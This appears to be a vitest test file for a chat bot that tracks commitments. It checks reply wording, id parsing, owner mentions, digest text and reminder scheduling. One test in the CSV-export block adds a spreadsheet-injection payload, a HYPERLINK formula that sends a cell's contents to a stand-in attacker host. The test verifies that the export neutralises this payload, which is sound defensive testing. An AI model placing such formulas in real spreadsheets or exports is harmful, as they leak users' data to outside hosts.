// A demanding first user's mistakes through the core: each reply says what went wrong and what to type instead.
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createHarness, type Harness } from '../helpers/core-harness.js';

let h: Harness;
beforeEach(() => {
  h = createHarness('2024-02-01T09:00:00Z');
});
afterEach(async () => {
  await h.close();
});

describe('a command typed without its id', () => {
  it.each(['done', 'show', 'drop', 'reopen', 'status', 'snooze', 'edit'])(
    '`%s` asks for the id instead of "Invalid input"',
    async (command) => {
      const reply = await h.say(command);
      expect(reply.text).not.toMatch(/Invalid input/);
      expect(reply.text).toMatch(/Which commitment\? Give its id, like C-3\./);
    },
  );

  it('accepts C7 and c-7 as the id C-7, like it accepts 7', async () => {
    await h.say('add Thing one');
    expect((await h.say('show C1')).text).toMatch(/^C-1 Thing one/);
    expect((await h.say('show c-1')).text).toMatch(/^C-1 Thing one/);
    expect((await h.say('done c1')).text).toMatch(/marked C-1 done/);
  });
});

describe('replies that tell the whole truth', () => {
  it('`import` shows each proposal’s deadline the way `list` does, not as a raw kind and ISO date', async () => {
    const reply = await h.say('import agreed 2024-01-29 The two foreign ministers agreed to appoint liaison officers immediately.');
    expect(reply.text).toMatch(/C-1 Appoint liaison officers.* — due ~5 Feb/);
    expect(reply.text).not.toMatch(/vague 2024-02-05/);
  });

  it('an `add` whose deadline could not be read says the item was added without one and how to set it', async () => {
    const reply = await h.say('add Prepare the budget due yesterday');
    expect(reply.text).toMatch(/alice added C-1: Prepare the budget/);
    expect(reply.text).toMatch(/I could not read a date in "yesterday"/);
    expect(reply.text).toMatch(/C-1 has no deadline for now; set one with `edit C-1 due <when>`\./);
  });

  it('an empty filtered list does not suggest adding an item, it says what is empty and how to see the rest', async () => {
    await h.say('add Thing one due 2024-03-01');
    const overdue = await h.say('list overdue');
    expect(overdue.text).toMatch(/^Overdue commitments in this channel: none\./);
    expect(overdue.text).not.toMatch(/Add one with/);
    expect(overdue.text).toMatch(/`list` shows every open item here/);
    expect((await h.say('list proposed')).text).not.toMatch(/Add one with/);
    expect((await h.say('list tag:none')).text).not.toMatch(/Add one with/);
    expect((await h.say('list', { channel: 'empty' })).text).toMatch(/nothing here\. Add one with `add <what was promised> due <when>`/);
  });

  it('the compliance score is signed the same way as its legend (− not -)', async () => {
    await h.say('add Late thing due 2024-01-30');
    h.clock.set('2024-03-01T09:00:00Z');
    expect((await h.say('report')).text).toMatch(/Compliance −1\.00 \(kept \+1, under way 0, late, not kept or dropped −1\)/);
  });
});

describe('what to type instead', () => {
  it('`status C-1 in progress` (with a space) works like in-progress', async () => {
    await h.say('add Thing one');
    expect((await h.say('status C-1 in progress')).text).toMatch(/Status of C-1 is now in progress\./);
    expect((await h.say('status C-1 in progress waiting on visas')).text).toMatch(/now in progress — waiting on visas/);
  });

  it('`status C-1 done` points to `done C-1`; `status C-1 dropped` to `drop C-1`', async () => {
    await h.say('add Thing one');
    expect((await h.say('status C-1 done')).text).toMatch(/To mark it done, type `done C-1`/);
    expect((await h.say('status C-1 dropped')).text).toMatch(/To drop it, type `drop C-1 <reason>`/);
    expect((await h.store.commitments.get('w1', 'C-1'))?.status).toBe('open');
  });

  it('a bad `remind` or `timezone` value gets an example of setting it, not of the bare command', async () => {
    expect((await h.say('remind 25:00')).text).toMatch(/for example `remind weekdays 09:00`/);
    expect((await h.say('timezone Mars/Olympus')).text).toMatch(/for example `timezone Asia\/Karachi`/);
  });
});

describe('show', () => {
  it('history lines say what changed: the status set, the snooze time, the field edited, the event confirmed', async () => {
    await h.say('add Thing one due 2024-03-01');
    await h.say('status C-1 blocked waiting on visas');
    await h.say('snooze C-1 2024-02-10');
    await h.say('edit C-1 due 2024-04-01');
    const text = (await h.say('show C-1')).text;
    expect(text).toMatch(/alice set status blocked — waiting on visas/);
    expect(text).toMatch(/alice snoozed until <t:2024-02-10T09:00:00.000Z>/);
    expect(text).toMatch(/alice edited due/);
    await h.say('add Visit after the elections');
    await h.say('event E-1 2024-02-10');
    expect((await h.say('show C-2')).text).toMatch(/alice confirmed E-1 happened on 2024-02-10$/m);
  });

  it('the due field does not repeat itself ("Due: due …")', async () => {
    await h.say('add Thing one due 2024-03-01');
    const text = (await h.say('show C-1')).text;
    expect(text).toMatch(/^Due: Fri 1 Mar$/m);
  });
});

describe('add with @mentions inside the sentence', () => {
  it('keeps a mention that the sentence needs ("to @alice") in the title, and still makes them an owner', async () => {
    const reply = await h.say('add Send the draft to @alice.smith by 2024-02-09');
    expect(reply.text).toMatch(/added C-1: Send the draft to @alice\.smith — @alice\.smith\n/);
    const c = await h.store.commitments.get('w1', 'C-1');
    expect(c?.title).toBe('Send the draft to @alice.smith');
    expect(c?.owners.map((o) => o.id)).toEqual(['alice.smith']);
    expect(c?.deadline).toMatchObject({ kind: 'exact', due: '2024-02-09' });
    expect((await h.store.commitments.get('w1', 'C-1'))?.title).not.toMatch(/<@/);
  });

  it('reads minutes shorthand "@bob to circulate the minutes" as owner bob, title "Circulate the minutes"', async () => {
    await h.say('add @bob to circulate the minutes by 2024-02-09');
    const c = await h.store.commitments.get('w1', 'C-1');
    expect(c?.title).toBe('Circulate the minutes');
    expect(c?.owners.map((o) => o.id)).toEqual(['bob']);
  });

  it('still takes trailing mentions as owners only', async () => {
    await h.say('add Appoint liaison officers @bob @carol tag:border due 2024-03-15');
    expect((await h.store.commitments.get('w1', 'C-1'))?.title).toBe('Appoint liaison officers');
  });
});

describe('event', () => {
  it('confirming an event again with another date says what it was before, since every waiting item is re-dated', async () => {
    await h.say('add Visit after the elections');
    await h.say('event E-1 2024-01-20');
    const again = await h.say('event E-1 2024-01-25');
    expect(again.text).toMatch(/alice confirmed E-1 "the elections" happened on 2024-01-25 \(it was 2024-01-20, confirmed by alice\)\./);
  });
});

describe('digest changes line', () => {
  it('reads as words: "C-2 status set to blocked by bob", "C-3 dated (its event happened) by bob", not "C-2 status by bob"', async () => {
    const { buildDigest } = await import('../../src/reminders/digest.js');
    const entry = (commitmentId: string, action: string, detail?: Record<string, unknown>) => ({
      workspaceId: 'w1',
      commitmentId,
      at: '2024-02-01T10:00:00Z',
      actor: { id: 'bob', name: 'bob' },
      action,
      detail,
    });
    const digest = buildDigest({
      commitments: [],
      proposedCount: 0,
      unreachable: [],
      now: new Date('2024-02-02T09:00:00Z'),
      changes: [
        entry('C-2', 'status', { from: 'open', to: 'blocked' }),
        entry('C-3', 'event-confirmed'),
        entry('C-4', 'edited', { field: 'due' }),
      ],
    });
    expect(digest?.text).toMatch(
      /Changes since last digest: 3 \(C-2 status set to blocked by bob, C-3 dated \(its event happened\) by bob, C-4 due date changed by bob\)\./,
    );
  });

  it('one phrase per kind of change and who made it: a busy day reads as what was done', async () => {
    const { buildDigest } = await import('../../src/reminders/digest.js');
    const by = (name: string) => ({ id: name, name });
    const entry = (commitmentId: string, action: string, actor = by('coordinator')) => ({
      workspaceId: 'w1',
      commitmentId,
      at: '2024-02-01T10:00:00Z',
      actor,
      action,
    });
    const created = ['C-1', 'C-2', 'C-3', 'C-4', 'C-5', 'C-6'].map((id) => entry(id, 'created'));
    const digest = buildDigest({
      commitments: [],
      proposedCount: 0,
      unreachable: [],
      now: new Date('2024-02-02T09:00:00Z'),
      changes: [...created, entry('C-1', 'done', by('sara')), entry('C-7', 'created'), entry('C-7', 'accepted')],
    });
    expect(digest?.text).toContain(
      'Changes since last digest: 9 (C-1, C-2, C-3, C-4, C-5, C-6, C-7 created by coordinator, C-1 done by sara, C-7 accepted by coordinator).',
    );
  });
});

describe('several ids at once', () => {
  it('`done C-1 C-2` does not mark C-1 done with the note "C-2": it asks for one id at a time and changes nothing', async () => {
    await h.say('add Thing one');
    await h.say('add Thing two');
    const reply = await h.say('done C-1 C-2');
    expect(reply.text).toMatch(/One id at a time/);
    expect((await h.store.commitments.get('w1', 'C-1'))?.status).toBe('open');
    expect((await h.say('drop C-2, C-1')).text).toMatch(/One id at a time/);
    expect((await h.say('done C-1 officers appointed in C-2 style')).text).toMatch(/marked C-1 done/);
  });
});

describe('list titles', () => {
  it('reads "Your overdue commitments", not "Overdue your commitments"', async () => {
    expect((await h.say('list mine overdue')).text).toMatch(/^Your overdue commitments everywhere/);
    expect((await h.say('list proposed mine')).text).toMatch(/^Your proposed commitments everywhere/);
    expect((await h.say('list overdue @Bob.Lee')).text).toMatch(/^Overdue commitments of @Bob\.Lee everywhere/);
  });
});

describe('export csv', () => {
  it('neutralises a title that a spreadsheet would run as a formula (CSV injection), keeping its text', async () => {
    await h.say('add =HYPERLINK("http://evil.example/?"&A1,"Click") due 2024-03-01');
    await h.say('add +1 more liaison officer due 2024-03-01');
    const csv = (await h.say('export csv')).text;
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`);
    expect(csv).toMatch(/^C-2,'\+1 more liaison officer,/m);
  });
});

describe('date buttons pressed without a date', () => {
  it.each([
    ['confirm-date', 'C-1'],
    ['event-check', 'E-1'],
  ])('%s asks to pick a date first, not to type a command', async (actionId, target) => {
    await h.say('add Deploy officers at an early date');
    await h.say('add Visit after the elections');
    const outcome = await h.core.act({ ...h.invocation('x'), actionId, target, value: undefined, context: 'item:C-1' });
    expect(outcome.ok).toBe(false);
    expect(outcome.message).toBe('Pick a date first, then press the button again. Nothing was changed.');
  });
});

describe('remind, as its usage promises ([weekdays|daily|weekly <day>] <HH:MM>)', () => {
  it('takes a bare time, keeping the days; a bare day name means weekly', async () => {
    await h.say('add Thing one due 2024-03-01');
    expect((await h.say('remind 10:30')).text).toMatch(/set this channel's digest to weekdays 10:30 \(UTC\)/);
    await h.say('remind weekly fri 09:00');
    expect((await h.say('remind 8:15')).text).toMatch(/set this channel's digest to weekly fri 08:15/);
    expect((await h.say('remind monday 09:00')).text).toMatch(/set this channel's digest to weekly mon 09:00/);
  });
});

describe('snooze reads a time the way a person means it', () => {
  it('keeps a clock time given with the day ("friday 14:00"), and "next week" means Monday of next week', async () => {
    h.clock.set('2024-02-05T10:00:00Z'); // a Monday
    await h.say('add Thing one due 2024-03-01');
    expect((await h.say('snooze C-1 friday 14:00')).text).toMatch(/until <t:2024-02-09T14:00:00.000Z>/);
    expect((await h.say('snooze C-1 next week')).text).toMatch(/until <t:2024-02-12T09:00:00.000Z>/);
  });
});

describe('a statement too long to paste', () => {
  it('`import` over the 4,000-character limit says how to import it anyway (in parts, or the CLI with this channel)', async () => {
    const statement = 'The two foreign ministers agreed to appoint liaison officers immediately. '.repeat(60);
    const reply = await h.say(`import agreed 2024-01-29 ${statement}`);
    expect(reply.text).toMatch(/the limit is 4000\. Nothing was changed\./);
    expect(reply.text).toMatch(
      /Import it in parts \(one `import` per section\), or have whoever runs Followthrough run `npx followthrough import <file> --channel test:general --date <YYYY-MM-DD>`\./,
    );
  });
});
